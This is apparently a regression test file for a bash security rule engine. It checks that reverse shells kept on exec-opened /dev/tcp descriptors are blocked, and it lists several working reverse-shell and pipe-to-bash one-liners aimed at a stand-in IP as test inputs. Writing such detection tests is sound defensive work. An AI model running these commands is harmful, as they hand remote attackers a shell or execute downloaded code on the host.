// Regression: `exec 196<>/dev/tcp/h/p` yielded no fact (tree-sitter-bash has no `<>` operator and
// left an ERROR node as the redirect's target), so reverse shells that keep the socket on a
// descriptor (`sh <&196 >&196`) were allowed.
import { describe, expect, it } from 'vitest';
import { bashRuleIds } from '../helpers/engine.js';

const rules = bashRuleIds();

describe('/dev/tcp on a descriptor opened by exec', () => {
  it.each([
    'exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196',
    "bash -c 'exec 5<>/dev/tcp/203.0.113.7/80; cat <&5 | bash'",
    'exec 3</dev/tcp/203.0.113.7/80',
    'cat <>/dev/tcp/203.0.113.7/80',
  ])('%s is denied by SH-AST-002', (text) => {
    expect(rules(text)).toContain('SH-AST-002');
  });

  it('the shell fed from the socket runs downloaded content (SH-AST-010)', () => {
    expect(rules('exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196')).toContain('SH-AST-010');
  });

  it.each(['exec 3<>./fifo; echo ready >&3', 'exec 3>./build.log; make >&3', 'exec 2>/dev/null'])(
    '%s stays allowed',
    (text) => {
      expect(rules(text)).toEqual([]);
    },
  );
});
